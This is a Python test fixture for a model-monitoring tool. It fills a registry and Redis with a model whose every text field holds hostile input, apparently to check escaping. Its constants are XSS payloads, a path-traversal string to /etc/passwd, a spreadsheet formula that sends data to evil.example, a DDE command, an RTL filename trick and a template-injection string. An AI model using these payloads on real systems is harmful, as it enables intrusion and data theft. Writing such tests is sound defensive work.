"""Hostile text in every field that untrusted text can reach: one model that is made of it."""

from typing import Any

import msgspec
import numpy as np
import pandas as pd
import redis

from driftgauge.shared.contract.alert import (
    Acknowledgement,
    Alert,
    AlertEvidence,
    Contribution,
    Silence,
)
from driftgauge.shared.contract.alerts import cloud_event, fingerprint, incident_id
from driftgauge.shared.contract.events import Prediction, encode
from driftgauge.shared.contract.incident import Change, Incident, IncidentAlert, IncidentCause
from driftgauge.shared.contract.keys import Keys
from driftgauge.shared.contract.notifications.status import (
    ABOUT,
    STATUS,
    RouteAbout,
    RouteFailure,
    RouteStatus,
)
from driftgauge.shared.contract.snapshot import (
    ActiveAlert,
    Confusion,
    FairnessReport,
    FeatureReport,
    GroupRate,
    Histogram,
    MetricReport,
    Performance,
    RecommendedAction,
    SegmentDrift,
    SegmentFeature,
    SegmentReport,
    Segments,
    Snapshot,
    Statistic,
    Window,
)
from driftgauge.shared.contract.snapshot_parts import Brief
from driftgauge.shared.metrics.figures import Figures
from driftgauge.shared.reference.building import build_profile
from driftgauge.shared.reference.frames import columns_of
from driftgauge.shared.reference.schema import Feature, Schema
from driftgauge.shared.reference.segments import OTHER
from driftgauge.shared.registry.registry import ModelRegistry, PublishedVersion, new_manifest

MODEL = "hostile"
SCRIPT = "<script>window.ran = 1</script>"
IMAGE = "\"><img src=x onerror='window.ran = 2'>"
PATH = "../../../../etc/passwd"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TAB_FORMULA = "\t@SUM(1+1)*cmd|' /C calc'!A0"
REVERSED = "\u202egnp.exe\u2066"
LINK = "javascript:window.ran = 3"
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
LONG = "A" * 10_000
TEXTS = (SCRIPT, IMAGE, PATH, FORMULA, TAB_FORMULA, REVERSED, LINK, TEMPLATE, LONG)
CATEGORIES = tuple(text[:1000] for text in TEXTS)
SCHEMA = Schema(
    (
        *(Feature(text, "numeric") for text in TEXTS),
        Feature("category", "categorical", nullable=True, categories=CATEGORIES),
    ),
    prediction="categorical",
    target=SCRIPT,
    classes=CATEGORIES,
)
ALL = " ".join(TEXTS[:-1]) + LONG


def register(registry: ModelRegistry) -> None:
    """Register the model, and change its stages for hostile reasons."""
    random = np.random.default_rng(0)
    frame = pd.DataFrame({name: random.normal(size=1500) for name in TEXTS})
    frame["category"] = random.choice(np.array(CATEGORIES, dtype=object), 1500)
    made = random.choice(np.array(CATEGORIES, dtype=object), 1500)
    reference = build_profile(SCHEMA, columns_of(frame, SCHEMA), made)
    for number in (1, 2):
        manifest = new_manifest(
            MODEL,
            f"{number}.0.0",
            "monitor",
            metrics=dict.fromkeys(TEXTS, 0.5),
            git_revision=SCRIPT,
            trained=IMAGE,
            feature_engineering=PATH,
        )
        registry.register(PublishedVersion(manifest, SCHEMA, reference))
        registry.promote(MODEL, manifest.version, actor=ALL, reason=ALL)


def write(client: redis.Redis, keys: Keys) -> None:
    """Write predictions, labels, alerts and snapshots of the model into Redis, as if all the world
    had conspired.
    """
    client.sadd(keys.models, MODEL, SCRIPT)
    for number, text in enumerate(TEXTS):
        values: Any = [*(float(number) for _ in TEXTS), text]
        event = Prediction(
            text[:128], "2.0.0", 1_700_000_000_000, values, text, 1.0, client_id=True
        )
        client.xadd(keys.log(MODEL, 0), {"t": "p", "e": encode(event)})
        client.xadd(
            keys.log(MODEL, 0),
            {"t": "l", "e": msgspec.json.encode({"id": event.id, "label": text, "time": 1})},
        )
    for number, text in enumerate(TEXTS):
        client.xadd(keys.alerts(MODEL), {"e": cloud_event(_alert(text, number))})
        incident = _incident(text)
        client.xadd(keys.incidents(MODEL), {"e": cloud_event(incident)})
        client.hset(keys.open_incidents(MODEL), incident.id, cloud_event(incident))
        client.xadd(keys.snapshots(MODEL), {"e": cloud_event(_snapshot(f"{MODEL}-{number}", text))})
        client.xadd(keys.snapshots(MODEL), {"e": cloud_event(_snapshot(text, text))})
    for number, text in enumerate(TEXTS):
        _write_route(client, keys, f"route-{number}", text)
    now = _snapshot(f"{MODEL}-now", ALL)
    client.hset(keys.current(MODEL), "2.0.0", msgspec.json.encode(now))
    client.hset(keys.brief(MODEL), "2.0.0", msgspec.json.encode(Brief.of(now)))
    client.hset(keys.figures(MODEL), "2.0.0", msgspec.json.encode(Figures.of(now, 200, 100)))


def _write_route(client: redis.Redis, keys: Keys, name: str, text: str) -> None:
    """Write a route of notifications whose target and dead letters say a text."""
    client.sadd(keys.routes, name)
    failure = RouteFailure(1, 2, text, 1, 1, (text,))
    fields: Any = {
        ABOUT: msgspec.json.encode(RouteAbout(text, text, text, text, text)),
        STATUS: msgspec.json.encode(RouteStatus(failure=failure)),
    }
    client.hset(keys.route(name), mapping=fields)
    client.xadd(keys.route_dead(name), {"key": text, "model": text, "reason": text, "e": text})


def name_of(text: str) -> str:
    """Return the fingerprint of an alert."""
    return fingerprint(MODEL, "2.0.0", text, "psi")


def incident_of(text: str) -> str:
    """Return the id of an incident."""
    return incident_id(MODEL, name_of(text), 1)


def _incident(text: str) -> Incident:
    when = Change(1, 0, 2)
    alert = IncidentAlert(text, text, text, text, "critical", text, 1, 1, segment=text, change=when)
    return Incident(
        id=incident_of(text),
        model=MODEL,
        version=text,
        kind="model",
        state="open",
        severity="critical",
        number=1,
        change="opened",
        notify=True,
        headline=text,
        action="wait",
        advice=text,
        cause=IncidentCause("feature", text, text, text, text, text),
        since=1,
        earliest=0,
        latest=2,
        opened=1,
        updated=2,
        ended=None,
        features=list(TEXTS),
        of_features=len(TEXTS),
        effect=text,
        alerts=[alert],
        of_alerts=1,
        snapshot=text,
        acknowledged=Acknowledgement(text, text, 1),
        silenced=Silence(text, text, 1, 2),
    )


def _alert(text: str, number: int) -> Alert:
    cells = [Contribution(one, 0.1, 0.2, 0.3) for one in TEXTS]
    evidence = AlertEvidence(text, 0.3, 0.2, 0.01, 5000, 2000, number, 0, 1, text, cells, unit=text)
    return Alert(
        name_of(text),
        MODEL,
        "2.0.0",
        text,
        text,
        "critical",
        "firing",
        text,
        evidence,
        1,
        2,
        None,
        text,
        text,
        1,
        "acknowledged",
        advice=ALL,
        acknowledged=Acknowledgement(text, ALL, 3),
        silenced=Silence(text, ALL, 4, 5),
        inhibited_by=text,
        segment=text,
    )


def _snapshot(name: str, text: str) -> Snapshot:
    histogram = Histogram(
        None, list(TEXTS), [1 / len(TEXTS)] * len(TEXTS), [1 / len(TEXTS)] * len(TEXTS)
    )
    psi = Statistic("psi", 0.5, 0.01, 0.001, 0.1, 0.25, text)
    features = [
        FeatureReport(one, "categorical", "critical", one, [psi], [], histogram, [], [], unit=one)
        for one in TEXTS
    ]
    alerts = [
        ActiveAlert(
            name_of(one), one, one, "critical", "firing", 1, one, "retrain", one, 5, one, one
        )
        for one in (*TEXTS, text)
    ]
    found = [
        MetricReport("accuracy", 0.5, 0.4, 0.6, 0.0, 900, 0.8, note=text, unit=text),
        *(_metric(one) for one in TEXTS),
    ]
    performance = Performance(
        severity="critical",
        reason=text,
        start=0,
        end=1,
        predictions=2000,
        labelled=900,
        coverage=0.45,
        corrected=0,
        delays_ms=[1, 2, 3],
        confidence=0.95,
        metrics=found,
        estimated=found,
        assumption=text,
        target=features[0],
        confusion=Confusion(
            list(TEXTS), [[1] * len(TEXTS)] * len(TEXTS), [[-0.5] * len(TEXTS)] * len(TEXTS), text
        ),
    )
    return Snapshot(
        id=name,
        model=MODEL,
        version="2.0.0",
        trigger="alert",
        created=1,
        severity="critical",
        verdict=text,
        window=Window(0, 1, 2000, 8, 2000),
        reference_rows=1500,
        features=features,
        prediction=None,
        alerts=alerts,
        events_per_day=1.0,
        actions=[RecommendedAction("retrain", text, [text])],
        performance=performance,
        segments=_segments(text),
    )


def _metric(text: str) -> MetricReport:
    return MetricReport(f"{text}:{text}", None, None, None, 0.0, 900, note=text)


def _segments(text: str) -> Segments:
    """Return as many segments as there can be, of such names."""
    names = [*(f"{one[:1000]}{at}" for at in range(2) for one in TEXTS), "", " ", OTHER]
    accuracy = MetricReport("accuracy", 0.5, 0.4, 0.6, 0.0, 900, 0.8, note=text)
    parts = [
        SegmentReport(
            text,
            name,
            "critical",
            text,
            9,
            0.1,
            0.2,
            [SegmentDrift(text, 0.5, 0.1)],
            9,
            [accuracy],
            -0.1,
            [GroupRate(text, 0.4, 0.5, 900)],
        )
        for name in names
    ]
    unfair = FairnessReport(
        text, 0.5, 0.4, 0.6, 0.9, text, names[0], names[1], 900, 0.9, 0.8, "critical", text
    )
    return Segments(
        "accuracy",
        0.5,
        0.8,
        [SegmentFeature(one, parts, 0.0, one, [unfair]) for one in (text, SCRIPT, IMAGE)],
        outcome=text,
    )
